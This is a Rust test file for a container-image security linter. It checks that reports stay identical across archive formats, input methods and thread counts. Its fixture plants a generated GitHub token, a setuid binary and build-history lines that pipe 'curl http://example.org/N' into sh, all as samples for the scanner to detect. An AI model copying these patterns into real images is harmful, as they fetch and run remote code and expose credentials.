//! One image through every door: the same report, whatever it was written as and however many threads read it.

use super::conformance;
use super::demo::demo;
use super::image::{Layer, Made, Members, Stored, archive, folder};
use super::run::{Ran, plimsoll, plimsoll_on};
use plimsoll::facts::secrets;
use plimsoll::rule::RuleSet;
use serde_json::{Value, json};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

/// The demo image, and over it: a token, the layer that deletes it, one that hides a folder, and noise.
pub(crate) fn rich() -> Made {
    let patterns = RuleSet::builtin().unwrap().patterns().unwrap();
    let token = secrets::generate(&patterns, "github-token", 7).unwrap();
    let mut image = demo();
    image.tags = vec!["example/rich:1.0".to_owned()];
    let noise: Vec<u8> = (0..100_000_u32).flat_map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes()).collect();
    let layers = [
        Layer::default()
            .file("root/.netrc-old", 0o600, format!("token = {token}\n"))
            .file("srv/noise", 0o644, noise)
            .tar(),
        Layer::default().file("root/.wh..netrc-old", 0o644, "").file("srv/.git/.wh..wh..opq", 0o644, "").tar(),
        Layer::default().link("usr/bin/latest", "sudo").file("usr/bin/find", 0o4755, "x").tar(),
    ];
    for (index, layer) in layers.into_iter().enumerate() {
        image.layers.push(layer);
        let by = format!("RUN /bin/sh -c curl http://example.org/{index} | sh # buildkit");
        image.config["history"].as_array_mut().unwrap().push(json!({"created_by": by}));
    }
    image
}

/// A report without what belongs to the form that an image was written in.
fn essence(ran: &Ran) -> String {
    assert_eq!(ran.disorder(), None);
    let mut report = ran.json();
    report.as_object_mut().unwrap().remove("tool");
    for image in report["images"].as_array_mut().unwrap() {
        let image = image.as_object_mut().unwrap();
        for key in ["source", "names", "manifest_digest"] {
            assert!(image.remove(key).is_some());
        }
        for layer in image["layers"].as_array_mut().unwrap() {
            let layer = layer.as_object_mut().unwrap();
            assert!(layer.remove("digest").is_some() && layer.remove("size").is_some());
        }
    }
    serde_json::to_string_pretty(&report).unwrap()
}

fn lint(reference: &str) -> Ran {
    plimsoll(&["-o", "json", reference])
}

/// The first line that differs.
fn difference(one: &str, other: &str) -> String {
    let pair = one.lines().zip(other.lines()).find(|(a, b)| a != b);
    format!("{pair:?}, {} and {} lines", one.lines().count(), other.lines().count())
}

struct Doors {
    place: tempfile::TempDir,
    /// Name, report.
    seen: Vec<(String, String)>,
}

impl Doors {
    fn new() -> Self {
        Self { place: tempfile::tempdir().unwrap(), seen: Vec::new() }
    }

    fn put(&self, name: &str, bytes: &[u8]) -> String {
        let path = self.place.path().join(name);
        fs::write(&path, bytes).unwrap();
        path.display().to_string()
    }

    fn folder(&self, name: &str, members: &Members) -> String {
        let path = self.place.path().join(name);
        folder(members, &path);
        path.display().to_string()
    }

    fn enter(&mut self, reference: &str) {
        let report = essence(&lint(reference));
        self.seen.push((reference.to_owned(), report));
    }

    fn all_equal(&self) {
        let (first, expected) = &self.seen[0];
        for (name, report) in &self.seen {
            assert!(report == expected, "{first} and {name} differ: {}", difference(expected, report));
        }
    }
}

#[test]
fn every_door_shows_the_same() {
    let image = rich();
    let mut doors = Doors::new();
    let classic = image.docker(Stored::Plain);
    let first: Members = classic.iter().rev().cloned().collect();
    let mut references = vec![
        doors.put("classic.tar", &archive(&classic)),
        doors.put("manifest-first.tar", &archive(&first)),
        doors.put("hybrid.tar", &archive(&image.hybrid(Stored::Plain))),
        doors.put("hybrid-gzip.tar", &archive(&image.hybrid(Stored::Gzip))),
    ];
    for stored in [Stored::Plain, Stored::Gzip, Stored::Zstd] {
        let docker = archive(&image.docker(stored));
        let oci = archive(&image.oci(stored));
        for outer in [Stored::Plain, Stored::Gzip, Stored::Zstd] {
            references.push(doors.put(&format!("docker-{stored:?}-{outer:?}"), &outer.store(&docker)));
            references.push(doors.put(&format!("oci-{stored:?}-{outer:?}"), &outer.store(&oci)));
        }
        references.push(doors.folder(&format!("layout-{stored:?}"), &image.oci(stored)));
    }
    let at = |name: &str| doors.place.path().join(name).display().to_string();
    references.extend([
        format!("docker-archive:{}", at("classic.tar")),
        format!("docker-archive:{}:example/rich:1.0", at("classic.tar")),
        format!("oci:{}", at("layout-Gzip")),
        format!("oci:{}:1.0", at("layout-Zstd")),
        format!("oci-archive:{}:1.0", at("oci-Gzip-Plain")),
        format!("oci-archive:{}", at("oci-Zstd-Gzip")),
        format!("oci-archive:{}", at("hybrid.tar")),
    ]);
    for reference in &references {
        doors.enter(reference);
    }
    for name in ["classic.tar", "manifest-first.tar", "docker-Gzip-Zstd", "oci-Zstd-Plain", "oci-Gzip-Gzip"] {
        let ran = plimsoll_on(&["-o", "json", "-"], Some(&doors.place.path().join(name)));
        doors.seen.push((format!("{name} on standard input"), essence(&ran)));
    }
    doors.all_equal();

    let report: Value = serde_json::from_str(&doors.seen[0].1).unwrap();
    let findings = report["images"][0]["findings"].as_array().unwrap();
    let has = |rule: &str, presence: &str| {
        findings.iter().any(|it| it["rule"] == rule && (presence.is_empty() || it["at"]["presence"] == presence))
    };
    assert!(has("github-token", "removed") && has("setuid-dangerous", "visible") && has("pipe-to-shell", ""));
    assert!(!doors.seen[0].1.contains(&rich_token()), "the token is shown whole");
}

fn rich_token() -> String {
    let patterns = RuleSet::builtin().unwrap().patterns().unwrap();
    secrets::generate(&patterns, "github-token", 7).unwrap()
}

/// One layer that is not there is a gap, and takes nothing from the rest.
#[test]
fn a_missing_layer_is_a_gap() {
    let image = rich();
    let doors = Doors::new();
    let missing = |mut members: Members, layer: usize| {
        let lost = Stored::Plain.store(&image.layers[layer]);
        members.retain(|(_, bytes)| *bytes != lost);
        members
    };
    let last = image.layers.len() - 1;
    let docker = doors.put("docker.tar", &archive(&missing(image.docker(Stored::Plain), 0)));
    let layout = doors.folder("layout", &missing(image.oci(Stored::Plain), last));
    for (reference, what, above) in [
        (docker, "): member '0/layer.tar': no such member in the archive; the files", ", and the layers above it may"),
        (layout, "): blob is missing; the files of the image are shown without this layer", "is not gone"),
    ] {
        let ran = plimsoll(&["-o", "json", "--fail-on", "never", &reference]);
        assert_eq!((ran.disorder(), ran.code), (None, 3));
        let gaps = ran.gaps();
        assert!(gaps.iter().any(|gap| gap.contains(what) && gap.contains(above)), "{gaps:?}");
        let report = ran.json();
        let findings = report["images"][0]["findings"].as_array().unwrap();
        for rule in ["github-token", "pipe-to-shell"] {
            assert!(findings.iter().any(|finding| finding["rule"] == rule), "{reference}: no {rule}");
        }
        let layers = report["images"][0]["layers"].as_array().unwrap();
        assert_eq!(layers.len(), image.layers.len());
    }
}

/// A path is bytes.
#[cfg(target_os = "linux")]
#[test]
fn a_path_that_is_not_utf8() {
    use std::os::unix::ffi::OsStrExt as _;
    let place = tempfile::tempdir().unwrap();
    let path = place.path().join(std::ffi::OsStr::from_bytes(b"caf\xe9.tar"));
    let ran = plimsoll(&["-o".as_ref(), "json".as_ref(), path.as_os_str()]);
    assert_eq!((ran.disorder(), ran.code), (None, 2));
    assert!(ran.stderr.ends_with("/caf\\xe9.tar: no such file or folder\n"), "{}", ran.stderr);
    assert!(ran.json()["errors"][0]["source"].as_str().unwrap().ends_with("/caf\\xe9.tar"));
    fs::write(&path, archive(&rich().docker(Stored::Plain))).unwrap();
    let ran = plimsoll(&["-o".as_ref(), "json".as_ref(), path.as_os_str()]);
    assert_eq!((ran.disorder(), ran.code), (None, 1));
    assert!(ran.json()["images"][0]["source"].as_str().unwrap().ends_with("/caf\\xe9.tar"));
}

#[test]
fn threads_change_nothing() {
    let doors = Doors::new();
    let image = doors.put("image.tar", &archive(&rich().docker(Stored::Gzip)));
    for format in ["json", "sarif", "terminal"] {
        let run = |threads: &str| plimsoll(&["-v", "-o", format, "--threads", threads, &image]);
        let one = run("1");
        assert_eq!((one.code, one.stderr.as_str()), (1, ""));
        for threads in ["2", "8", "8", "8"] {
            let many = run(threads);
            assert!(one.stdout == many.stdout, "{format}: {}", difference(one.text(), many.text()));
        }
    }
}

fn has_skopeo() -> bool {
    let found = Command::new("skopeo").arg("--version").output().is_ok_and(|output| output.status.success());
    if !found {
        println!("skopeo is missing: not tested");
    }
    found
}

fn copy(from: &str, to: &str, options: &[&str]) {
    let mut command = Command::new("skopeo");
    let output = command.args(["--insecure-policy", "copy", "-q"]).args(options).args([from, to]).output().unwrap();
    assert!(output.status.success(), "{from} {to}: {}", String::from_utf8_lossy(&output.stderr));
}

/// What skopeo makes of one image.
#[test]
fn copies_of_skopeo() {
    if !has_skopeo() {
        return;
    }
    let mut doors = Doors::new();
    let path = doors.put("first.tar", &archive(&rich().docker(Stored::Plain)));
    let at = |name: &str| doors.place.path().join(name).display().to_string();
    let copies = [
        (format!("docker-archive:{path}"), format!("oci:{}:1.0", at("layout")), &[][..]),
        (format!("oci:{}:1.0", at("layout")), format!("oci-archive:{}:1.0", at("archive")), &[]),
        (format!("oci:{}:1.0", at("layout")), format!("docker-archive:{}:example/rich:1.0", at("again.tar")), &[]),
        (
            format!("docker-archive:{path}"),
            format!("oci:{}:1.0", at("zstd")),
            &["--dest-compress", "--dest-compress-format", "zstd"],
        ),
    ];
    for (from, to, options) in &copies {
        copy(from, to, options);
    }
    // skopeo writes a config of its own when it turns Docker's form into OCI's: what follows is about its own images.
    let mut references = Vec::from(["layout", "archive", "again.tar", "zstd"].map(at));
    references.extend(copies.iter().map(|(_, to, _)| to.clone()));
    for reference in &references {
        doors.enter(reference);
    }
    doors.all_equal();
}

/// What Docker and buildx wrote, and skopeo's copies of that.
#[test]
fn archives_of_real_tools() {
    let Some(conformance) = conformance() else { return };
    let mut files: Vec<PathBuf> =
        fs::read_dir(conformance.join("real-tools")).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.retain(|path| path.extension().is_some_and(|extension| extension == "tar"));
    files.sort();
    assert!(files.len() > 5);
    for path in &files {
        let name = path.file_name().unwrap().to_str().unwrap();
        let reference = path.display().to_string();
        if name.contains("not-an-image") {
            let ran = lint(&reference);
            assert_eq!((ran.disorder(), ran.code), (None, 2));
            assert!(ran.stderr.contains("docker export"), "{}", ran.stderr);
            continue;
        }
        for tag in tags(path) {
            let select: Vec<&str> = tag.iter().flat_map(|tag| ["--tag", tag]).collect();
            let mut doors = Doors::new();
            let plain = plimsoll(&[&["-o", "json"], &select[..], &[&reference]].concat());
            doors.seen.push((format!("{name} {tag:?}"), essence(&plain)));
            let stdin = plimsoll_on(&[&["-o", "json"], &select[..], &["-"]].concat(), Some(path));
            doors.seen.push((format!("{name} {tag:?} on standard input"), essence(&stdin)));
            for outer in [Stored::Gzip, Stored::Zstd] {
                let whole = doors.put(&format!("{outer:?}"), &outer.store(&fs::read(path).unwrap()));
                let ran = plimsoll(&[&["-o", "json"], &select[..], &[&whole]].concat());
                doors.seen.push((format!("{name} {tag:?} {outer:?}"), essence(&ran)));
            }
            doors.all_equal();
        }
    }
}

/// The tags to choose by; `None` where there is nothing to choose.
fn tags(path: &Path) -> Vec<Option<String>> {
    let ran = lint(&path.display().to_string());
    if ran.code != 2 {
        return vec![None];
    }
    let listed =
        ran.stderr.lines().next().unwrap().rsplit_once("images: ").unwrap_or_else(|| panic!("{}", ran.stderr)).1;
    listed.split(", ").map(|tag| Some(tag.to_owned())).collect()
}
